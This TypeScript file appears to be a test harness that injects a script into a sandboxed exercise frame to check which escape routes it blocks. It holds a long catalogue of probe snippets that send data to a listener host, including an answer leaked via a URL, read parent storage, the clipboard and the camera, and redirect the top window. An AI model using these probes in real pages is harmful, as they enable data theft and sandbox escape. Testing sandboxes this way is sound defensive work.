/** What code in a frame tries: it returns something if it got what it wanted, or asks the listener at `E` for its name. */
export type Attempt = { name: string; code: string };

/** Names that the code of an attempt may use. */
export type Places = {
  /** A stranger's host, which listens. */
  E: string;
  /** The same over UDP: `127.0.0.1:port`. */
  UDP: string;
  APP: string;
  /** Another exercise. */
  OTHER: string;
};

const link = (rel: string, more = '') =>
  `const l = document.createElement('link'); Object.assign(l, { rel: '${rel}', href: E ${more} }); document.head.append(l);`;
const markup = (html: string) => `document.body.insertAdjacentHTML('beforeend', \`${html}\`);`;

const peers = (realm: string) =>
  `const peer = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + UDP }] });
   peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());`;
const freshRealm = `const f = document.createElement('iframe'); document.body.append(f);`;
const inWorker = (code: string) =>
  `const w = new Worker(URL.createObjectURL(new Blob(['const E = "' + E + '"; ${code}'])));
   return new Promise((yes, no) => { w.onmessage = ({ data }) => (data ? yes(data) : no()); w.onerror = no; });`;

const network: [string, string][] = [
  ['fetch', `return fetch(E, { mode: 'no-cors' });`],
  ['XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('POST', E, false); x.send('x'); return x;`],
  ['sendBeacon', `navigator.sendBeacon(E, 'x');`],
  ['fetch that outlives the page', `return fetch(E, { mode: 'no-cors', keepalive: true });`],
  ['WebSocket', `new WebSocket(E.replace('http', 'ws'));`],
  ['EventSource', `new EventSource(E);`],
  ['WebTransport', `await new WebTransport(E.replace('http', 'https')).ready; return 1;`],
  ['WebRTC', peers('window')],
  ['a worker', inWorker(`fetch(E, { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))`)],
  ['a script of a worker', inWorker(`try { importScripts(E); postMessage(1) } catch { postMessage(0) }`)],
  ['a script', `const s = document.createElement('script'); s.src = E; document.head.append(s);`],
  ['a module', `return import(E);`],
  [
    'an inline script',
    `${markup('')} const s = document.createElement('script'); s.textContent = 'window.inline = 1';
     document.head.append(s); return window.inline;`,
  ],
  ['a picture', `new Image().src = E;`],
  ['a sound', `new Audio(E).play();`],
  ['a film with subtitles', markup('<video src="${E}" poster="${E}" autoplay><track src="${E}" default></video>')],
  ['a style sheet', link('stylesheet')],
  ['an imported style sheet', markup('<style>@import url("${E}");</style>')],
  [
    'addresses in a style sheet',
    markup('<style>@font-face{font-family:x;src:url("${E}")}p{font-family:x;background:url("${E}")}</style><p>x</p>'),
  ],
  ['an SVG image', markup('<svg><image href="${E}"/><use href="${E}#x"/></svg>')],
  ['an address looked up ahead', link('dns-prefetch')],
  ['a connection opened ahead', link('preconnect')],
  ['a page fetched ahead', link('prefetch')],
  ['a file fetched ahead', link('preload', `, as: 'script'`)],
  ['an icon', link('icon')],
  ['a manifest', link('manifest')],
  [
    'a page rendered ahead',
    `const s = document.createElement('script'); s.type = 'speculationrules';
     s.textContent = JSON.stringify({ prerender: [{ urls: [E] }], prefetch: [{ urls: [E] }] }); document.head.append(s);`,
  ],
  ['a frame', markup('<iframe src="${E}"></iframe>')],
  ['a frame in a frame', markup('<iframe srcdoc="<img src=${E}><script src=${E}></script>"></iframe>')],
  ['an object', markup('<object data="${E}"></object><embed src="${E}">')],
  [
    'a form',
    `${markup('<form id="f" method="post" action="${E}"><input name="a" value="1"></form>')} document.forms.f.submit();`,
  ],
  [
    'a form into a new window',
    `${markup('<form id="g" target="_blank" action="${E}"></form>')} document.forms.g.submit();`,
  ],
  ['a window', `return window.open(E);`],
  ['a link with a ping', `${markup('<a id="p" target="_blank" href="${E}" ping="${E}">x</a>')} p.click();`],
  ['a download', `${markup('<a id="d" download="a.txt" href="data:text/plain,x">x</a>')} d.click();`],
];

const others: [string, string][] = [
  ['the page around it', `return parent.document.title;`],
  ['the storage of the page around it', `return parent.localStorage.length + 1;`],
  ['a script in the page around it', `parent.location = 'javascript:document.title=1';`],
  ['the top window', `top.location.href = APP + '/stolen';`],
  ['the API of the application', `return fetch(APP + '/api/me', { credentials: 'include' });`],
  ['the API, without asking to read', `return fetch(APP + '/api/me', { mode: 'no-cors', credentials: 'include' });`],
  ['the application by a picture', `const i = new Image(); i.src = APP + '/pixel.png'; return await i.decode();`],
  ['the application in a frame', `${markup('<iframe src="${APP}/framed"></iframe>')}`],
  ['another exercise', `return fetch(OTHER + '/content/content.json', { mode: 'no-cors' });`],
  ['another exercise in a frame', `${markup('<iframe src="${OTHER}/"></iframe>')}`],
  ['a picture of another exercise', `new Image().src = OTHER + '/content/images/a.png';`],
];

const device: [string, string][] = [
  ['a service worker', `return navigator.serviceWorker.register('/content/worker.js');`],
  [
    'a service worker made of text',
    `return navigator.serviceWorker.register(URL.createObjectURL(new Blob([''], { type: 'text/javascript' })));`,
  ],
  ['a dialog', `alert(1); return confirm(1) || prompt(1);`],
  ['the printer', `print();`],
  ['notifications', `return (await Notification.requestPermission()) === 'granted';`],
  ['the whole screen', `await document.documentElement.requestFullscreen(); return 1;`],
  ['the pointer', `await document.body.requestPointerLock(); return 1;`],
  ['the clipboard', `await navigator.clipboard.writeText('x'); return 1;`],
  ['what the clipboard holds', `return (await navigator.clipboard.readText()) + 1;`],
  ['the camera', `return navigator.mediaDevices.getUserMedia({ video: true });`],
  ['where the device is', `return new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no));`],
  ['cookies of the site', `document.cookie = 'tossed=1; path=/; domain=chjassu.localhost'; return document.cookie;`],
  ['cookies by their store', `await cookieStore.set({ name: 'tossed', value: '1', domain: 'chjassu.localhost' });`],
  ['a question before the page is left', `addEventListener('beforeunload', (event) => event.preventDefault());`],
];

const named = (all: [string, string][]): Attempt[] => all.map(([name, code]) => ({ name, code }));

/** Everything a frame may try at once, with what it would win. */
export const attempts: Attempt[] = named([...network, ...others, ...device]);

/** Those after which the frame is not what it was: each needs one of its own. */
export const departures: Attempt[] = named([
  // Chromium 153 ends the frame's process for it, and that one only.
  ['WebRTC of a realm that still has it', freshRealm + peers('f.contentWindow')],
  ['its own address', `location.href = E + '?answer=secret';`],
  [
    'a refresh',
    `${markup('')} document.head.insertAdjacentHTML('beforeend', \`<meta http-equiv="refresh" content="0;url=\${E}">\`);`,
  ],
  ['a link', `${markup('<a id="l" href="${E}">x</a>')} l.click();`],
]);

/** The script of a library that makes these attempts as soon as it is attached, says so, and keeps what came of each. */
export function tryingScript(all: readonly Attempt[], places: Places): string {
  const { E, ...rest } = places;
  const constants = Object.entries(rest).map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`);
  const address = (name: string) => `${E}/${encodeURIComponent(name)}`;
  const tries = all.map(
    ({ name, code }) => `window.tried[${JSON.stringify(name)}] = 'stopped';
      (async (E) => { ${code} })(${JSON.stringify(address(name))})
        .then((won) => { if (won) window.tried[${JSON.stringify(name)}] = 'reached'; }, () => undefined);`,
  );
  // A frame that goes away takes along what it has just said: it is given the time to be heard.
  return `var Test = { Sample: function () { this.attach = function () {
    window.tried = {}; ${constants.join(' ')}
    parent.postMessage({ type: 'trying' }, '*');
    setTimeout(function () { ${tries.join('\n')} }, 50);
  }; } };`;
}
